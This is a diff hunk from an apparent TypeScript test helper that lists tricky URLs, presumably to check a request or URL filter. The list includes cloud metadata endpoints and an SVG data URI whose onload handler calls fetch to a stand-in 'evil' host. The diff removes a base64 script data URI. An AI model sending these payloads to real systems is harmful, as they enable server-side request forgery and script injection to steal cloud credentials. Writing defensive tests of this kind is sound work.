@@ -53,6 +53,5 @@ export function listTrickyAddresses({ allowed, trap }: Ports): string[] {
     `http://169.254.169.254/latest/meta-data`,
     `http://metadata.google.internal/`,
     `data:image/svg+xml,<svg onload=fetch("http://${evil}")>`,
-    `data:text/html;base64,PHNjcmlwdD4=`,
   ];
 }
